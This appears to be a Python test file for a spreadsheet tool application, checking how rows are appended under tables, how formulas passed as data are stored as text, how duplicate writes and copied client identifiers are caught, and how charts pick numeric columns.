async def test_set_cell_errors_say_what_to_fix(sheets: SpreadsheetsApplication, root: Path) -> None:
    await sheets.call("create_workbook", {"path": "s.xlsx"})
    before = (root / "s.xlsx").read_bytes()
    bad = await sheets.call("set_cell", {"path": "s.xlsx", "cell": "1A", "value": "x"})
    assert bad.error == "set_cell: cell '1A' is not a cell reference like 'A1'"
    other = await sheets.call("set_cell", {"path": "s.xlsx", "sheet": "Sheet1", "cell": "Data!B2", "value": "x"})
    assert "is on sheet 'Data' but sheet is 'Sheet1'" in other.error
    assert "no sheet named 'Data'" in (await sheets.call("set_cell", {"path": "s.xlsx", "cell": "Data!B2",
                                                                      "value": "x"})).error
    assert "value" in (await sheets.call("set_cell", {"path": "s.xlsx", "cell": "B2"})).error  # required
    assert (await sheets.call("read_sheet", {"path": "no.xlsx"})).error.endswith(
        "'no.xlsx' does not exist; the .xlsx files here: 's.xlsx'; a new one is made with create_workbook, or by "
        "write_rows")
    assert (await sheets.call("read_sheet", {"path": "notes.docx"})).error.endswith(
        "is not an .xlsx path (only Excel .xlsx workbooks are supported); the .xlsx files here: 's.xlsx'")
    assert (root / "s.xlsx").read_bytes() == before


def titled_table(root: Path) -> None:
    """A Q2 sheet: a title row, a header, data with an empty row inside; a Notes sheet whose table
    starts in column B under a title in A1."""
    book = Workbook()
    q2 = book.active
    q2.title = "Q2"
    q2["A1"] = "Budget Q2 2024"
    for r, row in enumerate([["Item", "Category", "Amount"], ["Rent", "Office", 1200], ["Food", "Staff", 450],
                             [None, None, None], ["Phone", "Office", 80]], start=3):
        for c, value in enumerate(row, start=1):
            q2.cell(r, c, value)
    notes = book.create_sheet("Notes")
    notes["A1"] = "Reading list"
    for r, row in enumerate([["Title", "Pages"], ["Dune", 412]], start=3):
        for c, value in enumerate(row, start=2):
            notes.cell(r, c, value)
    book.create_sheet("Empty")
    book.save(root / "q2.xlsx")


async def test_append_rows_goes_under_the_table(sheets: SpreadsheetsApplication, root: Path) -> None:
    titled_table(root)
    travel = {"path": "q2.xlsx", "sheet": "Q2", "rows": [["Travel", "Trips", "300"]]}
    assert not sheets.is_sensitive("append_rows", travel)  # nothing is overwritten
    added = await sheets.call("append_rows", travel)
    assert added.ok, added.error
    # under the last row holding a value (the empty row 6 inside the table does not end it), in the
    # table's first column; the data rows under the header, for a formula
    assert added.content == {"path": "q2.xlsx", "sheet": "Q2", "range": "A8:C8", "under": "A4:C7"}
    sheet = load_workbook(root / "q2.xlsx")["Q2"]
    assert [c.value for c in sheet[8]] == ["Travel", "Trips", 300]  # numeric text became a number
    assert sheet["A1"].value == "Budget Q2 2024" and [c.value for c in sheet[7]] == ["Phone", "Office", 80]
    assert all(c.value is None for c in sheet[6]) and sheet["D1"].value is None  # nothing beside the table

    notes = await sheets.call("append_rows", {"path": "q2.xlsx", "sheet": "Notes", "rows": [["Emma", 300],
                                                                                              ["'1984", "328"]]})
    assert notes.content == {"path": "q2.xlsx", "sheet": "Notes", "range": "B5:C6", "under": "B4:C4"}
    sheet = load_workbook(root / "q2.xlsx")["Notes"]
    assert [[c.value for c in row] for row in sheet["B3:C6"]] == [["Title", "Pages"], ["Dune", 412],
                                                                  ["Emma", 300], ["1984", 328]]
    assert sheet["A5"].value is None

    empty = await sheets.call("append_rows", {"path": "q2.xlsx", "sheet": "Empty", "rows": [["Item", "Amount"]]})
    assert empty.content == {"path": "q2.xlsx", "sheet": "Empty", "range": "A1:B1"}  # no rows to be under
    header_only = await sheets.call("append_rows", {"path": "q2.xlsx", "sheet": "Empty", "rows": [["Pen", 2]]})
    assert header_only.content == {"path": "q2.xlsx", "sheet": "Empty", "range": "A2:B2"}  # under the header only


async def test_rows_appended_with_the_tables_own_header_leave_the_header_out(sheets: SpreadsheetsApplication,
                                                                               root: Path) -> None:
    assert (await sheets.call("create_workbook", {"path": "q1.xlsx"})).ok
    assert (await sheets.call("write_rows", {"path": "q1.xlsx", "rows": [["Date", "Units"], ["Jan", 4]]})).ok
    march = await sheets.call("append_rows", {"path": "q1.xlsx", "rows": [["date ", "UNITS"], ["Mar", 5]]})
    assert march.ok and march.content["range"] == "A3:B3"
    assert march.content["note"] == "the rows' first row is the table's header: left out"
    assert [[c.value for c in row] for row in load_workbook(root / "q1.xlsx").active["A1:B3"]] == [
        ["Date", "Units"], ["Jan", 4], ["Mar", 5]]
    # a row of other names, or one row alone, is data
    other = await sheets.call("append_rows", {"path": "q1.xlsx", "rows": [["Total", "Sum"], ["x", 1]]})
    assert other.content["range"] == "A4:B5" and "note" not in other.content


async def test_the_whole_table_is_not_appended_under_itself(sheets: SpreadsheetsApplication,
                                                                      root: Path) -> None:
    table = [["Quarter", "Revenue"], ["Q1", 1200], ["Q2", 1350]]
    assert (await sheets.call("create_workbook", {"path": "b.xlsx"})).ok
    assert (await sheets.call("write_rows", {"path": "b.xlsx", "start": "A1", "rows": table})).ok
    before = (root / "b.xlsx").read_bytes()
    again = await sheets.call("append_rows", {"path": "b.xlsx", "rows": table})  # the whole table, as written
    assert again.ok and again.content["unchanged"] is True and again.content["range"] == "A1:B3"
    assert "not appended again" in again.content["note"] and (root / "b.xlsx").read_bytes() == before
    stacked = await sheets.call("write_rows", {"path": "b.xlsx", "start": "A4", "rows": table})
    assert not stacked.ok and "Sheet1!A1:B3, right above A4, holds these 3 rows already" in stacked.error
    assert (root / "b.xlsx").read_bytes() == before
    # its data rows again are rows like any other (two equal lines may be wanted)
    last = await sheets.call("append_rows", {"path": "b.xlsx", "rows": [["Q2", "1350"]]})
    assert last.content["range"] == "A4:B4" and "unchanged" not in last.content
    # not right under itself, it is a write like any other
    assert (await sheets.call("write_rows", {"path": "b.xlsx", "start": "D1", "rows": table})).ok


async def test_append_rows_writes_a_formula_as_text_and_names_the_tool_that_totals(
        sheets: SpreadsheetsApplication, root: Path) -> None:
    titled_table(root)
    first = await sheets.call("append_rows", {"path": "q2.xlsx", "sheet": "Q2", "rows": [["Travel", "Trips", 300]]})
    # What a Total row needs: the data rows so far (under) and the row just written (range).
    assert (first.content["under"], first.content["range"]) == ("A4:C7", "A8:C8")
    total = await sheets.call("append_rows", {"path": "q2.xlsx", "sheet": "Q2",
                                              "rows": [["Total", None, "=SUM(C4:C8)"]]})
    assert {k: total.content[k] for k in ("range", "under")} == {"range": "A9:C9", "under": "A4:C8"}
    assert "C9: written as text" in total.content["note"] and "add_totals_row" in total.content["note"]
    sheet = load_workbook(root / "q2.xlsx")["Q2"]
    assert [c.value for c in sheet[9]] == ["Total", None, "=SUM(C4:C8)"]
    assert sheet["C9"].data_type == "s"  # the text of a formula, not a live one


async def test_append_rows_again_is_a_repeat_only_right_after(sheets: SpreadsheetsApplication, root: Path) -> None:
    titled_table(root)
    travel = {"path": "q2.xlsx", "sheet": "Q2", "rows": [["Travel", "Trips", "300"]]}
    done = await sheets.call("append_rows", travel)
    before = (root / "q2.xlsx").read_bytes()
    assert (await sheets.call("read_sheet", {"path": "q2.xlsx", "sheet": "Q2"})).ok  # a read changes nothing
    # the same rows, cosmetically different (the number as a number, the sheet named the same way)
    again = await sheets.call("append_rows", {**travel, "rows": [["Travel", "Trips", 300]]})
    assert again.ok and again.content["unchanged"] is True and "write_rows at A9" in again.content["note"]
    assert {k: again.content[k] for k in ("range", "under")} == {"range": "A8:C8", "under": "A4:C7"}
    assert (root / "q2.xlsx").read_bytes() == before
    assert load_workbook(root / "q2.xlsx")["Q2"].max_row == 8

    other = await sheets.call("append_rows", {**travel, "rows": [["Taxi", "Trips", 40]]})
    assert "unchanged" not in other.content and other.content["range"] == "A9:C9"
    # the rows appended last before this one are not the last call any more: appended as asked
    back = await sheets.call("append_rows", travel)
    assert "unchanged" not in back.content and back.content["range"] == "A10:C10"
    # the file changed since (a cell set): the same rows again are a second copy, as asked
    await sheets.call("set_cell", {"path": "q2.xlsx", "sheet": "Q2", "cell": "E1", "value": "checked"})
    twice = await sheets.call("append_rows", travel)
    assert "unchanged" not in twice.content and twice.content["range"] == "A11:C11"
    # another application instance (another run) did not append them: it appends
    fresh = await SpreadsheetsApplication(sheets.workspace).call("append_rows", travel)
    assert "unchanged" not in fresh.content and fresh.content["range"] == "A12:C12"
    rows = [[c.value for c in row] for row in load_workbook(root / "q2.xlsx")["Q2"]["A8:C12"]]
    assert rows == [["Travel", "Trips", 300], ["Taxi", "Trips", 40], *[["Travel", "Trips", 300]] * 3]
    assert done.content["range"] == "A8:C8"


async def test_append_rows_refuses_rows_without_values(sheets: SpreadsheetsApplication, root: Path) -> None:
    titled_table(root)
    before = (root / "q2.xlsx").read_bytes()
    empty = await sheets.call("append_rows", {"path": "q2.xlsx", "rows": [[None, ""], []]})
    assert empty.error == "append_rows: rows hold no values: nothing to append"
    assert "rows" in (await sheets.call("append_rows", {"path": "q2.xlsx", "rows": []})).error
    assert "no sheet named" in (await sheets.call("append_rows", {"path": "q2.xlsx", "sheet": "Nope",
                                                                  "rows": [[1]]})).error
    assert (root / "q2.xlsx").read_bytes() == before


async def test_a_row_written_right_under_a_table_but_a_column_to_the_right_goes_under_its_columns(
        sheets: SpreadsheetsApplication, root: Path) -> None:
    table = [["Item", "Amount"], ["Rent", 1200], ["Software", 470]]
    assert (await sheets.call("create_workbook", {"path": "p.xlsx", "sheets": ["Q2"]})).ok
    assert (await sheets.call("write_rows", {"path": "p.xlsx", "rows": table})).ok
    shifted = await sheets.call("write_rows", {"path": "p.xlsx", "sheet": "Q2", "start": "B4",
                                               "rows": [["Travel", 300]]})
    assert shifted.ok and shifted.content["range"] == "A4:B4" and "written from A4" in shifted.content["note"]
    sheet = load_workbook(root / "p.xlsx")["Q2"]
    assert [[c.value for c in row] for row in sheet["A4:C4"]] == [["Travel", 300, None]]
    # where they belong, or as a column of their own (one value under Amount), they are written as asked
    assert (await sheets.call("write_rows", {"path": "p.xlsx", "start": "A5", "rows": [["Food", 80]]})).content[
        "range"] == "A5:B5"
    one = await sheets.call("write_rows", {"path": "p.xlsx", "start": "B6", "rows": [[15]]})
    assert one.content["range"] == "B6:B6" and "note" not in one.content
    # lower down, or beside the table (not under it), nothing moves
    assert (await sheets.call("write_rows", {"path": "p.xlsx", "start": "B9", "rows": [["x", 1]]})).content[
        "range"] == "B9:C9"
    assert (await sheets.call("write_rows", {"path": "p.xlsx", "start": "D1", "rows": [["Note", "y"]]})).content[
        "range"] == "D1:E1"


def test_identifiers_put_into_a_records_empty_place_are_told_apart_by_where_they_come_from(
        sheets: SpreadsheetsApplication, root: Path) -> None:
    book = Workbook()
    for row in (["Client", "Email", "Total"], ["Acme", "ops@acme.example", 120], ["Vega SA", None, 80]):
        book.active.append(row)
    book.save(root / "clients.xlsx")
    # another record's address is a copy (from B2); one no cell holds comes from the call alone ("")
    assert sheets.copies("set_cell", {"path": "clients.xlsx", "cell": "B3", "value": "ops@acme.example"}) == [
        ("B3", "ops@acme.example", "B2", "Email of Vega SA (B3)")]
    assert sheets.copies("set_cell", {"path": "clients.xlsx", "cell": "B3", "value": "info@vega.example"}) == [
        ("B3", "info@vega.example", "", "Email of Vega SA (B3)")]
    # a cell that holds a value, a column that holds no identifiers, and values that are none are not asked about
    assert sheets.copies("set_cell", {"path": "clients.xlsx", "cell": "B2", "value": "new@acme.example"}) == []
    assert sheets.copies("write_rows", {"path": "clients.xlsx", "start": "D1", "rows": [["Ref"], ["+1 555 0100 99"]]}
                         ) == []
    assert sheets.copies("set_cell", {"path": "clients.xlsx", "cell": "B3", "value": "unknown"}) == []


async def test_a_chart_plots_only_columns_of_numbers(sheets: SpreadsheetsApplication, root: Path) -> None:
    rows = [["Client", "Email", "Orders", "City", "Note"], ["Nimbus", "a@n.example", 3, "Leeds", "=C2*2"],
            ["Vega", None, "4", "Porto", "=C3*2"]]
    await sheets.call("create_workbook", {"path": "k.xlsx"})
    await sheets.call("write_rows", {"path": "k.xlsx", "rows": rows})  # "=C2*2" is data: stored as text
    before = (root / "k.xlsx").read_bytes()
    # text columns plot as nothing: a range with no column of numbers is refused, and the file is untouched
    texts = await sheets.call("add_chart", {"path": "k.xlsx", "kind": "bar", "data": "A1:B3", "title": "Email"})
    assert texts.error == ("add_chart: Sheet1!A1:B3: its value columns Email (B) hold no numbers, and a chart plots "
                           "numbers: there is nothing in them to chart")
    named = await sheets.call("add_chart", {"path": "k.xlsx", "kind": "bar", "data": "A1:E3", "title": "x",
                                            "columns": ["Email", "City", "Note"]})
    assert "Email (B), City (D), Note (E) hold no numbers" in named.error
    assert (root / "k.xlsx").read_bytes() == before
    # among columns of numbers (values, numbers written as text, live formulas), the text ones are left out
    added = await sheets.call("add_formula_column", {"path": "k.xlsx", "header": "Total", "formula": "=C2*2"})
    assert added.ok, added.error
    mixed = await sheets.call("add_chart", {"path": "k.xlsx", "kind": "bar", "data": "A1:F3", "title": "Orders"})
    assert mixed.ok and mixed.content["note"] == "Email (B), City (D), Note (E) hold no numbers: left out of the chart"
    assert mixed.content["took_columns"] == ["Orders", "Total"]
    ns = {"c": "http://schemas.openxmlformats.org/drawingml/2006/chart"}
    [chart] = charts_in(root / "k.xlsx", "Sheet1")
    assert chart.xpath(".//c:val//c:f/text()", namespaces=ns) == ["'Sheet1'!$C$2:$C$3", "'Sheet1'!$F$2:$F$3"]
    check_package(root / "k.xlsx")
